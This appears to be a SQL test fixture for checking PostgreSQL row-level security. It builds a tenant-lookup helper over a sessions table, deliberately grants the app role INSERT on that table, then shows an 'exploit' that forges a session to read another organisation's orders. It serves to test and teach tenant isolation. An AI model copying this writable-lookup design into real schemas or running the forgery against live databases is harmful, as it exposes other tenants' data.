-- The helper looks the tenant up in a table that the app role may write.
-- object: public.sessions
-- object: public.session_org()
-- base: integer
--- setup
CREATE TABLE sessions (token text PRIMARY KEY, org_id integer NOT NULL REFERENCES organizations);
CREATE INDEX ON sessions (org_id);
INSERT INTO sessions VALUES ('token-of-a', 1);
CREATE FUNCTION session_org() RETURNS integer LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp
    AS $$ SELECT org_id FROM sessions WHERE token = current_setting('myapp.token', true) $$;
DROP POLICY orders_own ON orders;
CREATE POLICY orders_own ON orders USING (org_id = (SELECT session_org()));
--- leak
GRANT INSERT ON sessions TO {app};
--- tenant
SELECT set_config('myapp.token', 'token-of-a', true);
--- exploit
INSERT INTO sessions VALUES ('forged', 2);
SELECT set_config('myapp.token', 'forged', true);
SELECT id FROM orders WHERE org_id = {B};
